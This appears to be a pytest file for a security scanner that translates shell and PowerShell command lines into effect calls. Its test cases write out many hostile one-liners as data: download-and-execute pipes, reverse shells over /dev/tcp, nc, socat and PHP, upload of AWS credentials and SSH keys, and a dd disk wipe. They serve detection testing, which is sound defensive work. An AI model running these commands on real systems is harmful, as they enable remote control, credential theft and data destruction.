"""Command lines lowered: which program gets what, in the words of the effects tables."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner import ir, irtext
from scanner.blob import Blob, BytesWindow, Fragment
from scanner.errors import OverBudget
from scanner.irwalk import walk
from scanner.languages import shell
from scanner.limits import Budget, Limits
from scanner.site import Trigger


def program(text: str | bytes, limits: Limits | None = None) -> ir.Program:
    data = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
    fragment = Fragment("shell", Blob(("a", "b"), BytesWindow(data)), Trigger.LOAD)
    (found,) = shell.lower(fragment, Budget(limits or Limits()))
    assert isinstance(found, ir.Program)
    return found


def calls(text: str) -> list[str]:
    """The calls, arguments spelled out: constants bare, results by the name of the callee."""
    values: dict[int, str] = {}
    variables: dict[str, str] = {}
    found = []
    for op in walk(program(text).functions["main"].body):
        match op:
            case ir.Const(dst=dst, value=value):
                values[dst] = str(value)
            case ir.Unknown(dst=dst):
                values[dst] = "?"
            case ir.Name(dst=dst, name=name):
                values[dst] = name.removeprefix("shell.")
            case ir.Make(dst=dst, items=items):
                values[dst] = "".join(values[i] for i in items)
            case ir.Merge(dst=dst, items=items):
                values[dst] = "|".join(values[i] for i in items)
            case ir.Store(var=name, src=src):
                variables[name] = values[src]
            case ir.Load(dst=dst, var=name):
                values[dst] = variables[name]
            case ir.Call(dst=dst, callee=callee, args=args, kwargs=kwargs):
                given = [values[a] for a in args] + [f"{k}={values[r]}" for k, r in kwargs]
                found.append(f"{values[callee]}({', '.join(given)})")
                values[dst] = f"{values[callee]}()"
    return found


def powershell(script: str) -> str:
    return "powershell -nop -w hidden -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Pipes: a shell that runs what was fetched.
        ("curl -s http://h/x | sh", ["curl(http://h/x)", "sh(stdin=curl())"]),
        ("wget -qO- http://h/x | sudo -u root bash", ["wget(http://h/x)", "sh(stdin=wget())"]),
        ("curl http://h/x |& python3 -", ["curl(http://h/x)", "python(stdin=curl())"]),
        ('sh -c "$(curl -fsSL http://h/x)"', ["curl(http://h/x)", "sh(command=curl())"]),
        ("eval `curl http://h/x`", ["curl(http://h/x)", "eval(curl())"]),
        ("bash <(curl http://h/x)", ["curl(http://h/x)", "sh(path=curl())"]),
        ("$(echo id)", ["eval(id)"]),
        # Files in between.
        (
            "curl -sLo /tmp/a http://h/a; chmod +x /tmp/a && /tmp/a &",
            ["curl(http://h/a)", "write(/tmp/a, data=curl())", "chmod(+x, /tmp/a)", "run(/tmp/a)"],
        ),
        ("wget http://h/a?x=1\nsh a", ["wget(http://h/a?x=1)", "write(a, data=wget())", "sh(path=a)"]),
        ("echo evil >> ~/.bashrc", ["write(~/.bashrc, data=evil)"]),
        ("(echo a; echo b) > f", ["write(f, data=b)"]),
        ("cp a b c/", ["cp(a, b, target=c/)"]),
        # Sockets and descriptors.
        (
            "bash -i >& /dev/tcp/10.1.2.3/99 0>&1",
            ["connect(10.1.2.3, 99)", "dup(connect())", "dup(connect())", "sh(stdin=connect())",
             "send(connect(), sh())"],
        ),
        (
            "exec 5<>/dev/tcp/h/9; cat <&5 | while read line; do $line 2>&5 >&5; done",
            ["connect(h, 9)", "dup(connect())", "dup(connect())", "send(connect(), connect())",
             "dup(connect())", "dup(connect())", "eval(connect())", "send(connect(), eval())"],
        ),
        ("nc -e /bin/sh h 99", ["connect(h, 99)", "dup(connect())", "sh(command=/bin/sh, stdin=connect())"]),
        ("nc -lvp 99", ["listen()"]),
        (
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 9 > /tmp/f",
            ["mkfifo(/tmp/f)", "read(/tmp/f)", "sh(stdin=read())", "connect(h, 9)", "dup(connect())",
             "send(connect(), sh())", "write(/tmp/f, data=connect())"],
        ),
        (
            "socat TCP:h:99 EXEC:/bin/sh",
            ["connect(h, 99)", "dup(connect())", "sh(command=/bin/sh, stdin=connect())"],
        ),
        # Constants handed on.
        ("bash -lc 'id; who'", ["sh(command=id; who)"]),
        ("/usr/bin/python3.11 -c \"print('a b')\" x", ["python(x, python=print('a b'))"]),
        ("perl -e 'system(1)'", ["interpreter(code=system(1))"]),
        ("echo aWQ= | base64 -d | sh", ["base64.b64decode(aWQ=)", "sh(stdin=base64.b64decode())"]),
        ("base64 --decode <<< aWQ= | sh", ["base64.b64decode(aWQ=)", "sh(stdin=base64.b64decode())"]),
        ("printf '\\x69\\144' | bash", ["sh(stdin=id)"]),
        ("echo 69 | xxd -rp | sh", ["builtins.bytes.fromhex(69)", "sh(stdin=builtins.bytes.fromhex())"]),
        ("python3 <<'EOF'\nimport os\n'$A'\nEOF\necho $A", ["python(stdin=import os\n'$A')", "getenv(A)"]),
        ("echo ${A:-$(id)}", ["getenv(A)", "id()"]),
        ("cat <<EOF | sh\nid $(hostname)\nEOF\n", ["hostname()", "sh(stdin=id hostname())"]),
        ("python -m http.server", ["python(module=http.server)"]),
        ("python setup.py -c x", ["python(-c, x, path=setup.py)"]),
        # Theft.
        (
            "cat ~/.aws/credentials | curl -X POST -d @- https://h/",
            ["read(~/.aws/credentials)", "upload(https://h/, data=@-|read(), stdin=read())"],
        ),
        ("curl -F f=@/etc/x http://h", ["read(/etc/x)", "upload(http://h, data=f=@/etc/x|read())"]),
        ("curl http://h/`whoami`/$HOME", ["whoami()", "getenv(HOME)", "curl(http://h/whoami()/getenv())"]),
        # A program of the artifact's own, whatever it calls itself.
        ("./sh -c id; /tmp/curl http://h; ~/bin/python x.py",
         ["run(./sh, -c, id)", "run(/tmp/curl, http://h)", "python(path=x.py)"]),
        # Variables, quoting, control flow, wrappers.
        ("U=http://h/x; curl \"$U\" ${U}y", ["curl(http://h/x, http://h/xy)"]),
        ("c''u\\rl 'http://h/x'", ["curl(http://h/x)"]),
        ("if true; then curl http://h; else id; fi", ["true()", "curl(http://h)", "id()"]),
        ("for i in a b; do rm -rf $i; done", ["rm(a|b, options=-rf)"]),
        ("case $X in a) id;; *) who;; esac", ["id()", "who()"]),
        ("f() { id; }; f", ["id()", "f()"]),
        ("nohup setsid timeout 5 env A=1 nice -n 3 id >/dev/null 2>&1 &", ["id()"]),
        ("echo a | xargs -I{} sh -c 'id {}'", ["sh(command=id {}, stdin=a)"]),
        ("find / -name k -exec cat {} ;", ["find(/, k, cat, {}, options=-name -exec)", "read({})"]),
        ("crontab - <<< '* * * * * x'", ["crontab(options=-, stdin=* * * * * x)"]),
        ("git clone http://h/r", ["git.clone(http://h/r)"]),
        ("pip3 install -U x", ["pip.install(x, options=-U)"]),
        ("# curl http://h\nid # who", ["id()"]),
        # Names that are put together, and words that are taken apart.
        ("a=cu;b=rl;$a$b http://h | sh", ["curl(http://h)", "sh(stdin=curl())"]),
        ("c='curl -s'; $c http://h", ["curl(http://h)"]),
        ("a=id; a=who; $a", ["id()", "who()"]),
        ("a=$(id); $a -x", ["id()", "eval(id() -x)"]),
        ("{curl,-s,http://h}|{sh,-}", ["curl(http://h)", "sh(stdin=curl())"]),
        ("curl${IFS}http://h$IFS$9", ["curl(http://h)"]),
        ("cp a.{json,bak}; echo '{a,b}' {}", ["cp(a.json, target=a.bak)"]),
        ("busybox wget -O- http://h", ["wget(http://h)"]),
        # One-liners of other languages.
        (
            "php -r '$s=fsockopen(\"10.1.2.3\",99);exec(\"sh <&3\");'",
            ["connect(10.1.2.3, 99)", "dup(connect())", "sh(stdin=connect())", "sh(command=sh <&3)",
             'interpreter(code=$s=fsockopen("10.1.2.3",99);exec("sh <&3");)'],
        ),
        (
            "ruby -ropen-uri -e 'eval(URI.open(\"http://h/x\").read)'",
            ["fetch(http://h/x)", "interpreter(code=fetch())",
             'interpreter(code=eval(URI.open("http://h/x").read))'],
        ),
        ("perl -pe 's/a/b/' f", ["interpreter(f, code=s/a/b/)"]),
        # Files that leave, disks that are overwritten, files that are databases.
        ("scp ~/.ssh/k u@h:", ["read(~/.ssh/k)", "scp(~/.ssh/k, u@h:, data=read())"]),
        ("rsync -a h::data/ here/", ["rsync(h::data/, here/, options=-a)"]),
        ("dd if=/dev/zero of=/dev/sda bs=1M", ["read(/dev/zero)", "wipe(/dev/sda)"]),
        ("dd if=a of=b", ["read(a)", "write(b, data=read())"]),
        ("sqlite3 a.db 'select 1'", ["sqlite3(a.db, select 1)", "read(a.db)"]),
        (
            "certutil -urlcache -f http://h/a.exe a.exe && a.exe",
            ["certutil(http://h/a.exe, a.exe, options=-urlcache -f)", "write(a.exe, data=certutil())",
             "run(a.exe)"],
        ),
        ("id\\\n -u", ["id(options=-u)"]),
        ("awk 'BEGIN{system(\"id\")}'", ["sh(command=id)", 'interpreter(code=BEGIN{system("id")})']),
        ("awk '{print $1}' f", ["awk({print $1}, f)"]),
        # Windows.
        ("cmd.exe /c C:\\Windows\\System32\\calc.exe", ["cmd(command=C:/Windows/System32/calc.exe)"]),
        ("cmd /c start /b calc.exe", ["calc()"]),
        # Honest work.
        ("ffmpeg -y -i 'a b.mp3' out.wav 2> /dev/null", ["ffmpeg(a b.mp3, out.wav, options=-y -i)"]),
        ("true > /dev/null", ["true()"]),
        ("", []),
        ("   # only a comment", []),
    ],
)  # fmt: skip
def test_calls(text: str, expected: list[str]) -> None:
    assert calls(text) == expected


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://h/a.ps1')",
            ["Invoke_WebRequest(http://h/a.ps1)", "Invoke_Expression(Invoke_WebRequest())"],
        ),
        (
            "iwr http://h/a.exe -OutFile C:\\a.exe; Start-Process C:\\a.exe",
            [
                "Invoke_WebRequest(http://h/a.exe)",
                "write(C:/a.exe, data=Invoke_WebRequest())",
                "run(C:/a.exe)",
            ],
        ),
        (
            "$c=New-Object System.Net.Sockets.TCPClient('10.1.2.3',443);$s=$c.GetStream();iex $d",
            ["connect(10.1.2.3, 443)", "dup(connect())", "Invoke_Expression(connect())"],
        ),
    ],
)
def test_powershell_is_read_encoded_or_not(script: str, expected: list[str]) -> None:
    for text in (powershell(script), f"powershell.exe -c {script}", f"powershell {script}"):
        assert calls(text)[:-1] == expected
        assert calls(text)[-1].startswith("powershell(command=")


def test_a_quote_that_is_not_closed_keeps_its_words_and_says_so() -> None:
    body = program("curl 'http://h/x").functions["main"].body
    assert any(isinstance(op, ir.Const) and op.value == "http://h/x" for op in body)
    assert any(isinstance(op, ir.Unknown) and "not closed" in op.why for op in body)


def test_lines_are_counted_and_a_named_pipe_puts_everything_into_a_loop() -> None:
    found = program("id\n\nwhoami 'a\nb'\nhostname")
    assert [op.at for op in found.functions["main"].body if isinstance(op, ir.Call)] == [1, 3, 5]
    assert isinstance(program("mkfifo f").functions["main"].body[0], ir.Loop)


def test_the_program_carries_trail_trigger_and_survives_as_text() -> None:
    found = program('A=1; curl "$A" | sh >& /dev/tcp/h/1')
    assert (found.trail, found.unit, found.entries[0].trigger) == (("a", "b"), "line", Trigger.LOAD)
    assert irtext.parse(irtext.render(found)) == found


def test_substitutions_nest_to_a_bound() -> None:
    assert calls("$(" * 5 + "id" + ")" * 5)[0] == "id()"
    body = program("echo " + "$(echo " * 40 + "id" + ")" * 40).functions["main"].body
    assert any(isinstance(op, ir.Unknown) and "too deeply" in op.why for op in body)


@pytest.mark.parametrize(
    "text", ["sudo " * 3000 + "id", "find -exec " * 3000, "cmd /c x " * 3000, "'$(" * 3000]
)
def test_programs_that_start_programs_nest_to_a_bound(text: str) -> None:
    assert program(text).functions["main"].body


def test_what_fits_into_the_budget_is_yielded_before_it_is_exceeded() -> None:
    fragment = Fragment("shell", Blob(("a",), BytesWindow(b"id;" * 10_000)), Trigger.LOAD)
    lowered = shell.lower(fragment, Budget(Limits(steps=1_000)))
    first = next(lowered)
    assert isinstance(first, ir.Program) and first.functions["main"].body
    with pytest.raises(OverBudget):
        next(lowered)
    lowered = shell.lower(fragment, Budget(Limits(constant=30)))
    assert next(lowered)
    with pytest.raises(OverBudget, match="30 bytes"):
        next(lowered)


PIECES = r"""
curl sh -c -d @- http://h/x | & ; && ( ) $( ` ' " \ < > >& << EOF $A ${B $((1+1)) a= =b /dev/tcp/h/1 0>&1
5<>x exec nc -e mkfifo base64 python3 - xargs find -exec powershell -enc for in do done case ) esac {} {x,y} #
\x00 é %A% C:\x cmd /c
"""


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.sampled_from([*PIECES.split(), "\n", "\x00"]),
        max_size=14,
    ),
    st.sampled_from(["", " "]),
)
def test_nothing_but_over_budget_escapes(words: list[str], glue: str) -> None:
    fragment = Fragment("shell", Blob(("a",), BytesWindow(glue.join(words).encode())), Trigger.LOAD)
    for found in shell.lower(fragment, Budget()):
        assert isinstance(found, ir.Program)
        assert irtext.parse(irtext.render(found)) == found


@given(st.binary(max_size=60))
def test_any_bytes(data: bytes) -> None:
    list(shell.lower(Fragment("shell", Blob(("a",), BytesWindow(data)), Trigger.LOAD), Budget()))
